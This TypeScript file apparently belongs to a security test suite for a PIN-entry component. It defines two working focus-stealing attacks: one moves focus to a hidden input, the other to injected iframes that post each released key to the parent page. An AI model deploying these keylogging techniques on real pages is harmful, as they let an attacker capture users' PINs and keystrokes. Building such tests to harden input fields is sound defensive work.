/** Attacks that move the focus, so that keys come up or go down elsewhere. */
import type { Attack } from '../attack.js';

export const heldKeys: Attack = {
  title: '`keyup` after a stolen focus',
  does: 'Takes the focus whenever a key is down, which the user activation of the key tells it, listens for `keyup`, and gives the focus back.',
  actsOnHeldKeys: true,
  install: ({ listen, focused }) => {
    const hidden = document.createElement('input');
    hidden.style.opacity = '0';
    listen('keyup', ({ key }) => key);
    let owner: HTMLElement | undefined;
    return () => {
      if (owner === undefined) {
        owner = focused();
        document.body.append(hidden);
        hidden.focus();
      } else {
        owner.focus();
        owner = undefined;
      }
    };
  },
};

export const keysInFrames: Attack = {
  title: '`keyup` in a frame after a stolen focus',
  does: 'Takes the focus whenever a key is down, which the user activation of the key tells it, and gives it to a frame: by turns to one of its own origin and to one of another. The frame listens for `keyup`. Then the attack gives the focus back.',
  actsOnHeldKeys: true,
  emptiesFields: true,
  install: ({ capture, focused }) => {
    // It answers once it has the focus, or has lost it.
    const html = `<script>
      onkeyup = ({ key }) => parent.postMessage(key, '*');
      onmessage = ({ data }) => {
        const answer = () => {
          if (document.hasFocus() !== data) return;
          onfocus = onblur = null;
          parent.postMessage('', '*');
        };
        onfocus = onblur = answer;
        answer();
      };
    </script>`;
    const frames: HTMLIFrameElement[] = [];
    const load = async () => {
      for (const [name, address] of [
        ['srcdoc', html],
        ['src', `data:text/html,${html}`],
      ] as const) {
        const frame = document.createElement('iframe');
        frame.setAttribute(name, address);
        frames.push(frame);
        document.body.append(frame);
        await new Promise((done) => (frame.onload = done));
      }
    };
    let answer: () => void;
    addEventListener('message', ({ data, source }) => {
      if (!frames.some(({ contentWindow }) => contentWindow === source)) return;
      if (data === '') answer();
      else capture('keyup', data);
    });
    const isFocused = (expected: boolean) =>
      new Promise<void>((resolve) => {
        answer = resolve;
        frames[0]!.contentWindow!.postMessage(expected, '*');
      });
    let owner: HTMLElement | undefined;
    return async () => {
      if (frames.length === 0) await load();
      if (owner === undefined) {
        owner = focused();
        if (document.querySelector('set-card-pin[frame-src]') !== null) {
          // First to the page, until the frame page has lost it. If the focus moves from one frame
          // to another at once, Chromium sometimes leaves it in the page, and the key is lost.
          const lost = new Promise((done) => addEventListener('pin-error', done, { once: true }));
          owner.blur();
          await lost;
        }
        frames.reverse()[0]!.focus();
        await isFocused(true);
      } else {
        owner.focus();
        owner = undefined;
        // The message about the key comes before the answer.
        await isFocused(false);
      }
    };
  },
};
